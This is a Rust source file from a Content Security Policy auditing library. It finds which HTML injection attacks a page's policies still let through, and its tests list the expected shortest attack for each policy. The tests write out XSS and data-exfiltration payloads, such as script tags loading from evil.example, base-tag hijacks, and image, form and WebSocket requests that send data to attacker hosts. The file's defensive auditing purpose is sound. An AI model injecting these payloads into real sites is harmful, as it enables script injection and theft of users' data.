//! Finds the attacks that policies let through.

use super::found::Attack;
use super::harm::{Harm, Place, Way};
use super::row::Row;
use super::step::Attempt;
use super::witness::{Witness, witnesses};
use crate::csp::attack::{NONCE, PAGE};
use crate::csp::{Directive, Disposition, SourceExpression};
use crate::fetch::{Policies, Ruling};
use crate::promise::attacks::ATTACKS;
use crate::span::Span;
use crate::url::{Origin, Url};

/// All attacks that the policies of a page let through: of each row of the table one for each combination of sources that lets
/// it in.
///
/// ```
/// use security_policy_core::Span;
/// use security_policy_core::fetch::Policies;
/// use security_policy_core::promise::attacks;
/// use security_policy_core::url::Origin;
///
/// let origin = Origin::parse("https://shop.example", Span::default()).expect("an origin");
/// let policies = Policies::new(origin).enforce("default-src 'none'; img-src https://img.example; form-action 'none'");
/// let markup: Vec<String> = attacks(&policies).iter().map(|attack| attack.to_string()).collect();
/// assert!(markup.contains(&r#"<img src="https://img.example/?data">"#.to_owned()));
/// assert!(markup.contains(&r#"<base href="https://evil.example/">"#.to_owned()));
/// assert!(!markup.contains(&"<script>alert(1)</script>".to_owned()));
/// ```
pub fn attacks<'p>(policies: &'p Policies<'_>) -> Vec<Attack<'p>> {
    let search = Search::new(policies);
    let mut found: Vec<Attack<'p>> = Vec::new();
    for row in ATTACKS {
        let from = found.len();
        for attack in search.of(row) {
            let is_known = found[from..].iter().any(|other| is_same_way_in(other, &attack));
            if !is_known && (row.harms.is_empty() || !attack.harms.is_empty()) {
                found.push(attack);
            }
        }
    }
    found
}

/// The shortest attack that does this; of several, the first in the table.
pub fn shortest<'p>(policies: &'p Policies<'_>, harm: Harm) -> Option<Attack<'p>> {
    Search::new(policies).shortest(harm)
}

/// A search for attacks on the page of some policies. [`attacks`] and [`shortest`] are searches without a list.
#[derive(Debug)]
pub struct Search<'s, 'p> {
    policies: &'p Policies<'s>,
    /// Where the page may send data. `None`: to its own origin.
    destinations: Option<&'s [SourceExpression]>,
    witnesses: Vec<Witness>,
    nonces: Vec<&'p str>,
    is_upgraded: bool,
}

impl<'s, 'p> Search<'s, 'p> {
    /// A search for all attacks.
    pub fn new(policies: &'p Policies<'s>) -> Self {
        let enforced =
            || policies.iter().map(|policy| policy.csp()).filter(|csp| csp.disposition == Disposition::Enforce);
        let sources = enforced().flat_map(|csp| &csp.clauses).flat_map(|clause| clause.sources());
        let nonces = sources.filter_map(|source| match &source.node {
            SourceExpression::FixedNonce(nonce) => Some(nonce.as_str()),
            _ => None,
        });
        let upgrades = [Directive::UpgradeInsecureRequests, Directive::BlockAllMixedContent];
        let is_upgraded = enforced().any(|csp| upgrades.into_iter().any(|directive| csp.get(directive).is_some()));
        Search { nonces: nonces.collect(), witnesses: witnesses(policies), policies, destinations: None, is_upgraded }
    }

    /// Data may be sent to these sources.
    #[must_use]
    pub fn allowing(self, destinations: &'s [SourceExpression]) -> Self {
        Search { destinations: Some(destinations), ..self }
    }

    /// The shortest attack that does this; of several, the first in the table.
    pub fn shortest(&self, harm: Harm) -> Option<Attack<'p>> {
        let rows = ATTACKS.iter().filter(|row| row.harms.contains(&harm));
        let attacks = rows.flat_map(|row| self.of(row)).filter(|attack| attack.harms.contains(&harm));
        attacks.min_by_key(|attack| attack.quoted().chars().count())
    }

    /// The attacks of a row, for each URL and each nonce that works.
    fn of(&self, row: &'static Row) -> Vec<Attack<'p>> {
        let nonces: Vec<Option<&str>> = match row.template.text.contains(NONCE) {
            true => self.nonces.iter().copied().map(Some).collect(),
            false => vec![None],
        };
        let witnesses: Vec<Option<&Witness>> = match row.places {
            [] => vec![None],
            places => self.witnesses.iter().filter(|witness| places.contains(&witness.place)).map(Some).collect(),
        };
        let attempts = witnesses.into_iter().flat_map(|witness| {
            let attempt = move |nonce: &Option<&'p str>| Attempt { witness, nonce: *nonce };
            nonces.iter().map(attempt).collect::<Vec<_>>()
        });
        attempts.filter_map(|attempt| self.attempt(row, attempt)).collect()
    }

    fn attempt(&self, row: &'static Row, attempt: Attempt<'_>) -> Option<Attack<'p>> {
        let mut rulings: Vec<Ruling<'p>> = Vec::new();
        let mut missing: Vec<Directive> = Vec::new();
        for step in row.steps {
            let allowing = step.passes(self.policies, attempt)?;
            if allowing.is_empty() && !missing.contains(&step.directive()) {
                missing.push(step.directive());
            }
            rulings.extend(allowing);
        }
        let harms = row.harms.iter().copied().filter(|harm| self.does(*harm, attempt.witness)).collect();
        let (text, origin) = self.text(row, attempt);
        Some(Attack { row, text, origin, harms, rulings, missing })
    }

    /// Whether an attack with this URL does it.
    fn does(&self, harm: Harm, witness: Option<&Witness>) -> bool {
        let Some(Witness { url, place, .. }) = witness else { return harm != Harm::Mixed };
        let page = self.policies.origin();
        let is_plain = page.is_https() && matches!(url.scheme(), "http" | "ws") && !is_loopback(url);
        let is_sent = matches!(url.scheme(), "http" | "https" | "ws" | "wss");
        match harm {
            Harm::Mixed => is_plain && !self.is_upgraded,
            // Browsers upgrade or block plain http, so that nothing else comes of it.
            _ if is_plain => false,
            Harm::Leak => is_sent && !self.may_receive(url),
            Harm::Base => url.host().is_some() && *place != Place::Site,
            _ => true,
        }
    }

    /// Whether the page may send data to this URL.
    fn may_receive(&self, url: &Url) -> bool {
        let page = self.policies.origin();
        match self.destinations {
            Some(sources) => sources.iter().any(|source| source.matches(url, page, crate::csp::Redirect::None)),
            None => url.host() == Some(page.host()) && url.port() == page.port(),
        }
    }

    /// What the attacker writes, and the origin of the page that has it if that is another page.
    fn text(&self, row: &'static Row, attempt: Attempt<'_>) -> (String, Option<String>) {
        let url = attempt.witness.map(|witness| match witness.place {
            Place::Data => row.data,
            _ => witness.text.as_str(),
        });
        let text = row.template.with(url.unwrap_or_default()).replace(NONCE, attempt.nonce.unwrap_or_default());
        match (row.way, attempt.witness) {
            (Way::Ancestor, Some(witness)) => {
                let page = format!("{}/", self.policies.origin());
                (text.replace(PAGE, &page), Some(origin_of(&witness.url)))
            }
            _ => (text, None),
        }
    }
}

/// Whether the same sources let both in.
fn is_same_way_in(one: &Attack<'_>, other: &Attack<'_>) -> bool {
    let ways = |attack: &Attack<'_>| -> Vec<_> {
        attack.rulings.iter().map(|ruling| (ruling.policy, ruling.matched().map(|source| source.span))).collect()
    };
    one.harms == other.harms && ways(one) == ways(other)
}

/// Secure Contexts, #is-origin-trustworthy
fn is_loopback(url: &Url) -> bool {
    Origin::parse(&origin_of(url), Span::default()).is_ok_and(|origin| origin.is_loopback())
}

fn origin_of(url: &Url) -> String {
    let port = url.port().map_or_else(String::new, |port| format!(":{port}"));
    format!("{}://{}{port}", url.scheme(), url.host().unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;

    const HASH: &str = "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='";

    /// The shortest attack under the policies in a text, each after a line break.
    fn attack(policies: &str, harm: Harm) -> Option<String> {
        let origin = Origin::parse("https://shop.example", Span::default()).expect("an origin");
        let policies = policies.lines().fold(Policies::new(origin), |all, text| match text.strip_prefix("report ") {
            Some(text) => all.report_only(text),
            None => all.enforce(text),
        });
        shortest(&policies, harm).map(|attack| format!("{} {}", attack.name(), attack.quoted()))
    }

    #[test]
    fn scripts() {
        for (policies, expected) in [
            ("", Some("event_handler `<svg onload=\"alert(1)\">`")),
            ("report script-src 'none'", Some("event_handler `<svg onload=\"alert(1)\">`")),
            ("sandbox", None),
            ("sandbox allow-scripts", Some("event_handler `<svg onload=\"alert(1)\">`")),
            ("script-src 'none'", None),
            ("default-src 'none'", None),
            (
                "default-src 'none'; script-src-elem 'self'",
                Some("script_of_site `<script src=\"https://shop.example/upload/\"></script>`"),
            ),
            ("script-src 'none'; script-src-attr 'unsafe-inline'", Some("event_handler `<svg onload=\"alert(1)\">`")),
            ("script-src 'unsafe-inline'; script-src-attr 'none'", Some("inline_script `<script>alert(1)</script>`")),
            ("script-src 'nonce-'; base-uri 'none'", None),
            ("script-src https:", Some("script_of_attacker `<script src=\"https://evil.example/\"></script>`")),
            (
                "script-src https://cdn.jsdelivr.net; base-uri 'none'",
                Some("script_of_listed_host `<script src=\"https://cdn.jsdelivr.net/npm/evil\"></script>`"),
            ),
            (
                "script-src https://*.example.com/js/",
                Some("script_of_listed_host `<script src=\"https://evil.example.com/js/\"></script>`"),
            ),
            ("script-src data:", Some("script_data `<script src=\"data:,alert(1)\"></script>`")),
            ("script-src blob:", Some("script_blob `<script src=\"blob:https://shop.example/…\"></script>`")),
            (
                "script-src filesystem:",
                Some("script_blob `<script src=\"filesystem:https://shop.example/…\"></script>`"),
            ),
            ("script-src 'nonce-abc'; base-uri 'none'", Some("static_nonce `<script nonce=\"abc\">alert(1)</script>`")),
            (&format!("script-src {HASH}"), None),
            (&format!("script-src 'unsafe-hashes' {HASH}"), Some("listed_handler `<svg onload=\"…\">`")),
            (
                &format!("script-src-elem 'unsafe-hashes' {HASH}; script-src-attr 'none'"),
                Some("listed_javascript_url `<iframe src=\"javascript:…\"></iframe>`"),
            ),
            (
                &format!(
                    "script-src 'unsafe-hashes' {HASH}\nscript-src 'unsafe-hashes' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
                ),
                None,
            ),
            (
                "script-src 'strict-dynamic'; base-uri 'none'",
                Some(
                    "modulepreload `<link rel=\"modulepreload\" href=\"https://evil.example/\"><script type=\"module\" src=\"https://evil.example/\"></script>`",
                ),
            ),
            ("script-src 'strict-dynamic'\nscript-src 'none'", None),
            ("script-src 'unsafe-inline'\nscript-src data:", None),
            (
                "script-src https://*.a.example:*\nscript-src https://*:8443",
                Some("script_of_listed_host `<script src=\"https://evil.a.example:8443/\"></script>`"),
            ),
        ] {
            assert_eq!(attack(policies, Harm::Script).as_deref(), expected, "{policies}");
        }
    }

    #[test]
    fn a_nonce_needs_a_base() {
        // In a declaration the nonce of the response is no text: no header has it.
        let origin = Origin::parse("https://shop.example", Span::default()).expect("an origin");
        let with_base = |base: &str, script: Vec<SourceExpression>| {
            let (mut csp, _) = crate::csp::Csp::parse(base, Disposition::Enforce);
            csp.clauses.push(crate::csp::Clause {
                directive: crate::span::Spanned::new(Directive::ScriptSrc, Span::default()),
                value: crate::csp::ClauseValue::Sources(
                    script.into_iter().map(|source| crate::span::Spanned::new(source, Span::default())).collect(),
                ),
            });
            let policies = Policies::new(origin.clone()).with(csp, crate::fetch::PolicySource::Header);
            shortest(&policies, Harm::Script).map(|attack| attack.quoted())
        };
        for (base, expected) in [
            ("", Some("`<base href=\"https://evil.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`")),
            (
                "base-uri 'self'",
                Some(
                    "`<base href=\"https://shop.example/upload/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`",
                ),
            ),
            (
                "base-uri https://cdn.example",
                Some("`<base href=\"https://cdn.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`"),
            ),
            ("base-uri data:", None),
            ("base-uri 'none'", None),
        ] {
            assert_eq!(with_base(base, vec![SourceExpression::Nonce]).as_deref(), expected, "{base}");
        }
    }

    #[test]
    fn other_harms() {
        for (policies, harm, expected) in [
            ("base-uri 'none'", Harm::Base, None),
            ("base-uri 'self'", Harm::Base, None),
            ("default-src 'none'", Harm::Base, Some("base `<base href=\"https://evil.example/\">`")),
            ("base-uri 'self' cdn.example", Harm::Base, Some("base `<base href=\"https://cdn.example/\">`")),
            ("object-src 'none'", Harm::Plugin, None),
            ("object-src data:", Harm::Plugin, Some("embed `<embed src=\"data:image/gif,x\">`")),
            ("object-src 'self'", Harm::Plugin, Some("embed `<embed src=\"https://shop.example/upload/\">`")),
            ("frame-ancestors 'none'", Harm::Framed, None),
            (
                "frame-ancestors 'self'",
                Harm::Framed,
                Some(
                    "framed_by_site `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://shop.example`",
                ),
            ),
            (
                "frame-ancestors *\nframe-ancestors https://*.partner.example",
                Harm::Framed,
                Some(
                    "framed_by_listed `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://evil.partner.example`",
                ),
            ),
            ("style-src 'none'", Harm::Style, None),
            (
                "style-src 'none'; style-src-attr 'unsafe-inline'",
                Harm::Style,
                Some("style_attribute `<p style=\"color:red\">x</p>`"),
            ),
            ("default-src 'none'; form-action 'none'; base-uri 'none'", Harm::Leak, None),
            ("default-src 'self'; form-action 'self'; base-uri 'none'", Harm::Leak, None),
            (
                "default-src 'self'; form-action 'self'; img-src img.example",
                Harm::Leak,
                Some("image `<img src=\"https://img.example/?data\">`"),
            ),
            (
                "default-src 'self'",
                Harm::Mixed,
                Some("form `<form action=\"http://evil.example/\"><button name=\"data\">x</button></form>`"),
            ),
            ("default-src 'self'; form-action 'self' http://localhost", Harm::Mixed, None),
            (
                "default-src 'self'; form-action 'self'; img-src http://img.example",
                Harm::Mixed,
                Some("image `<img src=\"http://img.example/?data\">`"),
            ),
            ("default-src 'self'; form-action 'self'; img-src img.example", Harm::Mixed, None),
            ("default-src *; upgrade-insecure-requests", Harm::Mixed, None),
            ("default-src *; block-all-mixed-content", Harm::Mixed, None),
            (
                "default-src 'self'; form-action 'self'; connect-src ws:",
                Harm::Mixed,
                Some("websocket `new WebSocket(\"ws://evil.example/?data\")` in a script of the page"),
            ),
        ] {
            assert_eq!(attack(policies, harm).as_deref(), expected, "{harm:?}: {policies}");
        }
    }
}
